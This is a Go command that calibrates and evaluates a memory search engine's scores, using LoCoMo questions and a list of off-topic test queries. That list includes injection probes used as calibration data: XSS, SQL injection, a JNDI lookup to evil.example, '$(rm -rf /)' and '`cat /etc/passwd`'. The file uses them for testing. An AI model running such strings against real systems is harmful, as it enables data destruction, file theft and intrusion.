// Command calibrate measures and fits the calibrated search score
// (search.Models; docs/design.md, "Calibrated scores").
//
//	go run -tags sqlite_fts5 ./bench/cmd/calibrate -shared ../shared -dump /tmp/calib.json
//	go run -tags sqlite_fts5 ./bench/cmd/calibrate -fit /tmp/calib.json
//	go run -tags sqlite_fts5 ./bench/cmd/calibrate -shared ../shared -eval
//
// -dump asks the LoCoMo development questions of their own conversations
// and of two others, and the ranking fixture's questions and a list of
// off-topic ones of the fixture, in every mode with no minimum score, and
// writes each hit's lane signals and label. -fit fits one logistic model
// per mode, reports leave-one-conversation-out cross-validation (turn
// recall@10 lost at the default minimum score, off-topic searches that
// still return hits) and prints the models fitted on everything. -eval
// runs the LoCoMo evaluation in every mode at no minimum score and at the
// default, overall and by category. The data set stays in shared/ (CC BY-NC, evaluation only):
// nothing of it is written into the repository.
package main

import (
	"bufio"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"github.com/cairnmemory/cairn"
	"github.com/cairnmemory/cairn/embed/onnx"
	"github.com/cairnmemory/cairn/engine"
	"github.com/cairnmemory/cairn/eval"
	"github.com/cairnmemory/cairn/local"
	"github.com/cairnmemory/cairn/tokenize"
)

var modes = []string{cairn.ModeLexical, cairn.ModeVector, cairn.ModeHybrid}

func main() {
	shared := flag.String("shared", "../shared", "folder holding models/use-lite, lib/onnxruntime and data/locomo")
	dump := flag.String("dump", "", "write the calibration searches to this JSON file")
	list := flag.String("list", "", "with -dump: ask only the queries of this file (one a line, # comments) of every conversation and the fixture")
	test := flag.String("test", "", "with -fit: a -list dump of engine/testdata/offtopic.txt to check the models on")
	only := flag.String("modes", "lexical,vector,hybrid", "with -dump: the modes to ask in")
	parts := flag.String("parts", "", "with -dump: what to ask (locomo: the development conversations; fixture: the ranking fixture; small: indexes of 3 and 5 of its notes; mid: its notes beside 100 and 300 generated ones; default all four, with -list locomo,fixture)")
	fit := flag.String("fit", "", "fit the models to this JSON file (from -dump)")
	why := flag.Int("why", 0, "with -fit: print this many relevant hits cut and off-topic searches answered")
	featureSpec := flag.String("features", "", `with -fit: the features of some modes' models ("hybrid=match,cos;lexical=match"), default search.Models'`)
	evalRuns := flag.Bool("eval", false, "run the LoCoMo evaluation at min score 0 and at the default")
	questions := flag.String("questions", "", "with -eval: write each run's questions (scores, evidence ranks, turns) to this JSON file, keyed by mode and min score")
	l2 := flag.Float64("l2", 1, "L2 penalty of the fit")
	minScore := flag.Float64("min-score", cairn.DefaultMinScore, "minimum score cross-validation cuts at")
	posShare := flag.Float64("pos", 0.5, "share of the weight given to the answers (the prior of the fit)")
	crossShare := flag.Float64("cross", 0.1, "share of the negatives' weight given to questions asked of another conversation")
	fixed := flag.Float64("fixture", 0, "share of the answers' weight given to the ranking fixture's (0: by count)")
	paraShare := flag.Float64("para", 0, "share of the answers' weight given to the small indexes' paraphrase questions (0: they count as fixture answers)")
	midShare := flag.Float64("mid", 0, "share of the answers' weight given to the mid-sized indexes' answers (0: they count as fixture answers)")
	othersShare := flag.Float64("others", 0, "share of the negatives' weight given to the notes a fixture question does not expect (0: those hits are left out)")
	flag.Parse()
	modes = strings.Split(*only, ",")
	var err error
	switch {
	case *dump != "":
		p := *parts
		if p == "" && *list == "" {
			p = "locomo,fixture,small,mid"
		} else if p == "" {
			p = "locomo,fixture"
		}
		err = runDump(*shared, *dump, *list, strings.Split(p, ","))
	case *fit != "":
		err = runFit(*fit, *test, fitOptions{features: *featureSpec, why: *why, l2: *l2, minScore: *minScore,
			crossShare: *crossShare, posShare: *posShare, fixed: *fixed, others: *othersShare, para: *paraShare, mid: *midShare})
	case *evalRuns:
		err = runEval(*shared, *questions)
	default:
		err = fmt.Errorf("give -dump FILE, -fit FILE or -eval")
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "calibrate:", err)
		os.Exit(1)
	}
}

func embedder(shared string) (cairn.Embedder, error) {
	return onnx.New(onnx.Options{ModelDir: filepath.Join(shared, "models", "use-lite"),
		Library:       filepath.Join(shared, "lib", "onnxruntime", "libonnxruntime.so.1"),
		LoadTokenizer: func(p string) (onnx.Tokenizer, error) { return tokenize.Load(p) }})
}

func locomoOptions(shared, mode string) (eval.LocomoOptions, error) {
	// The engine closes its embedder: each run gets its own.
	emb, err := embedder(shared)
	return eval.LocomoOptions{Data: filepath.Join(shared, "data", "locomo", "locomo-dev.json"),
		Audit: filepath.Join(shared, "data", "locomo", "locomo-dev-audit-errors.json"), Mode: mode, Embedder: emb}, err
}

func runEval(shared, questions string) error {
	ctx := context.Background()
	asked := map[string][]eval.SweepQuestion{}
	for _, mode := range modes {
		for _, ms := range []float64{0, cairn.DefaultMinScore} {
			o, err := locomoOptions(shared, mode)
			if err != nil {
				return err
			}
			o.MinScore = ms
			key := fmt.Sprintf("%s min %.2f", mode, ms)
			if questions != "" {
				o.KeepTurns = true
				o.Asked = func(q eval.SweepQuestion) { asked[key] = append(asked[key], q) }
			}
			rep, err := eval.Locomo(ctx, o)
			if err != nil {
				return err
			}
			if questions != "" {
				data, err := json.Marshal(asked)
				if err == nil {
					err = os.WriteFile(questions, data, 0o644)
				}
				if err != nil {
					return err
				}
			}
			m := rep.Metrics
			fmt.Printf("%-8s min %.2f  questions %d  recall@1 %.1f  @5 %.1f  @10 %.1f  @25 %.1f  @50 %.1f  mrr %.1f  %.0fs\n", mode, ms, rep.Questions,
				m["turn_recall@1"], m["turn_recall@5"], m["turn_recall@10"], m["turn_recall@25"], m["turn_recall@50"], m["mrr"], rep.Seconds)
			for _, cat := range []string{"multi-hop", "temporal", "open-domain", "single-hop"} {
				c := rep.ByCategory[cat]
				fmt.Printf("  %-11s recall@1 %.1f  @5 %.1f  @10 %.1f  @25 %.1f  @50 %.1f  mrr %.1f\n", cat,
					c["turn_recall@1"], c["turn_recall@5"], c["turn_recall@10"], c["turn_recall@25"], c["turn_recall@50"], c["mrr"])
			}
		}
	}
	return nil
}

// Dump is the file -dump writes: searches per mode.
type Dump map[string][]eval.CalibrationQuery

func runDump(shared, out, list string, parts []string) error {
	ctx := context.Background()
	d := Dump{}
	others, offTopic, askQuestions := 2, trainOffTopic, true
	if list != "" {
		data, err := os.ReadFile(list)
		if err != nil {
			return err
		}
		others, offTopic, askQuestions = -1, nil, false
		for _, line := range strings.Split(string(data), "\n") {
			if line = strings.TrimSpace(line); line != "" && !strings.HasPrefix(line, "#") {
				offTopic = append(offTopic, line)
			}
		}
	}
	for _, mode := range modes {
		var qs []eval.CalibrationQuery
		if slices.Contains(parts, "locomo") {
			o, err := locomoOptions(shared, mode)
			if err != nil {
				return err
			}
			if qs, err = eval.LocomoCalibration(ctx, o, others, offTopic); err != nil {
				return err
			}
		}
		if slices.Contains(parts, "fixture") {
			fx, err := fixture(ctx, shared, mode, offTopic, askQuestions)
			if err != nil {
				return err
			}
			qs = append(qs, fx...)
		}
		if slices.Contains(parts, "mid") {
			md, err := midFixture(ctx, shared, mode, offTopic, askQuestions)
			if err != nil {
				return err
			}
			qs = append(qs, md...)
		}
		if slices.Contains(parts, "small") {
			sm, err := smallFixture(ctx, shared, mode, offTopic)
			if err != nil {
				return err
			}
			qs = append(qs, sm...)
		}
		d[mode] = qs
		fmt.Fprintf(os.Stderr, "%s: %d searches\n", mode, len(d[mode]))
	}
	data, err := json.Marshal(d)
	if err != nil {
		return err
	}
	return os.WriteFile(out, data, 0o644)
}

// trainOffTopic are off-topic queries of the fixture for fitting, apart
// from the 30 that engine/calibrate_test.go checks.
var trainOffTopic = []string{
	"medieval siege weapons", "how to knit a scarf", "volcanic eruption prediction", "cricket test match scores",
	"blorptang vexillium", "zzqx frobnicate wumbo", "recipe for beef wellington", "migratory patterns of monarch butterflies",
	"jupiter moons orbital resonance", "asdfgh jkl", "nuclear fusion tokamak", "how do vaccines work",
	"fjordlund snarvik kvell", "renaissance fresco techniques", "deep sea anglerfish", "the french revolution causes",
	"hypersonic missile guidance", "trombone embouchure", "glacier calving", "pharaoh tomb curse",
	"gribbleflax ontwerp", "mxyzptlk", "plinkety plonk zorb", "wuggle snarf tibbet", "ooblek varnathix",
	"binomial theorem proof", "how to replace a kitchen faucet", "capital of kazakhstan", "tectonic plate subduction",
	"lunar eclipse schedule", "how do hearing aids work", "byzantine empire fall", "dna replication enzymes",
	"weather forecast for tokyo", "best mortgage interest rates", "formula one pit stop strategy",
	"how to solder a circuit board", "sumo wrestling ranks", "venus atmosphere sulfuric acid", "the periodic table of elements",
	// Added for the second fit: questions of general knowledge made of
	// everyday words that personal conversations hold ("history", "work",
	// "change"), the kind that met a conversation on one word; they share
	// no word with engine/testdata/offtopic.txt (TestFitListApart). Not
	// "the chemistry of rust": the fixture has a note on Rust, the language.
	"history of the roman empire", "how do tides work", "boiling point of water at altitude", "stock market crash of 1929",
	"speed of light in a vacuum", "largest desert on earth", "who invented the telephone", "chess opening theory",
	"how do magnets attract metal", "causes of hyperinflation", "human digestive enzymes", "treaty of versailles terms",
	"how does a refrigerator cool", "plate armor of knights", "electoral college votes", "greenhouse gas emissions by country",
	"the speed of sound", "how do bees make honey", "what causes thunder and lightning", "roman numerals conversion",
	"ancient greek philosophers", "how does gps determine location", "interest on a savings bond", "the longest river in south america",
	"how to calculate compound interest", "symptoms of vitamin d deficiency", "how a steam engine works", "elements of gothic architecture",
	"the cold war arms race", "how do noise cancelling headphones work", "distance from earth to the moon", "how to read a barometer",
	"history of the printing press", "krebs cycle steps", "how do earthquakes happen", "viking longship navigation",
	"inventor of the light bulb", "how are diamonds formed", "labor laws for overtime pay", "what is the gross domestic product",
	"how does a reactor produce electricity", "ottoman empire sultans", "how do octopuses change color", "rules of rugby scrum",
	"integral of a polynomial", "how do satellites stay in orbit", "the magna carta", "iron smelting in a furnace",
	"grelbish vantorq", "zumfrick plexador", "quorvath nimblesk", "snargle pufftwit",
	"frunkel dibbet", "oompaloo skree", "yarvish blenth", "kwijibo fnord",
	// Added for the fourth fit: markup, template and injection strings, the
	// first things a new user types to test a search box. A sentence
	// encoder puts them near notes with code in them (cosine 0.7 in a
	// five-note index): the query's share of markup characters (symbols)
	// is what tells them from a question.
	`<div class="header"></div>`, "<img src=x onerror=prompt(7)>", "DROP TABLE accounts; --", "${jndi:ldap://evil.example/a}",
	"{{7*7}}", "$(rm -rf /)", "SELECT * FROM users WHERE id = 5 OR 2 = 2", "<?php echo $x; ?>",
	"<svg onload=confirm(2)>", "`cat /etc/passwd`", "<b>bold</b> <i>italic</i>", "[url=http://x.example]click[/url]",
}

// fixture asks the ranking fixture's questions (the expected note is the
// answer; unless questions is false) and offTopic of
// engine/testdata/rank/notes.
func fixture(ctx context.Context, shared, mode string, offTopic []string, questions bool) ([]eval.CalibrationQuery, error) {
	var emb cairn.Embedder
	if mode != cairn.ModeLexical {
		var err error
		if emb, err = embedder(shared); err != nil {
			return nil, err
		}
	}
	dir, err := os.MkdirTemp("", "cairn-calibrate")
	if err != nil {
		return nil, err
	}
	defer os.RemoveAll(dir)
	notes, err := filepath.Abs("engine/testdata/rank/notes")
	if err != nil {
		return nil, err
	}
	eng, err := local.Open(ctx, engine.Options{Dir: dir, Embedder: emb, Corpora: []cairn.Corpus{{Name: "rank", Kind: cairn.KindFiles, Paths: []string{notes}}}})
	if err != nil {
		return nil, err
	}
	defer eng.Close(ctx)
	if _, err := eng.Sync(ctx, nil); err != nil {
		return nil, err
	}
	var qs []fixtureQuestion
	if questions {
		if qs, err = fixtureQuestions(); err != nil {
			return nil, err
		}
	}
	for _, t := range offTopic {
		qs = append(qs, fixtureQuestion{t, ""})
	}
	return askFixture(ctx, eng, mode, "fixture", "fixture", qs)
}

// fixtureQuestion is a query of the ranking fixture and the path of its
// expected note ("": an off-topic query).
type fixtureQuestion struct{ text, want string }

// fixtureQuestions reads engine/testdata/rank/queries.tsv.
func fixtureQuestions() ([]fixtureQuestion, error) {
	f, err := os.Open("engine/testdata/rank/queries.tsv")
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var qs []fixtureQuestion
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if line := sc.Text(); line != "" && !strings.HasPrefix(line, "#") {
			text, want, _ := strings.Cut(line, "\t")
			qs = append(qs, fixtureQuestion{text, "cairn://rank/" + want})
		}
	}
	return qs, sc.Err()
}

// askFixture asks qs of eng in mode, labelling each hit by whether it is
// the question's expected note.
func askFixture(ctx context.Context, eng *engine.Engine, mode, conv, target string, qs []fixtureQuestion) ([]eval.CalibrationQuery, error) {
	var out []eval.CalibrationQuery
	for _, x := range qs {
		hits, err := eng.Search(ctx, x.text, &cairn.SearchOptions{Limit: 10, Mode: mode})
		if err != nil && !strings.Contains(err.Error(), "only common words") && !strings.Contains(err.Error(), "no words") {
			return nil, fmt.Errorf("search %q: %w", x.text, err)
		}
		cq := eval.CalibrationQuery{Conv: conv, Target: target, Question: x.text, OnTopic: x.want != ""}
		if cq.OnTopic {
			cq.Evidence = []string{x.want}
		}
		for _, h := range hits {
			ch := eval.CalibrationHit{Turns: []string{h.Path}, Relevant: h.Path == x.want}
			if h.Signals != nil {
				ch.Signals = *h.Signals
			}
			cq.Hits = append(cq.Hits, ch)
		}
		out = append(out, cq)
	}
	return out, nil
}
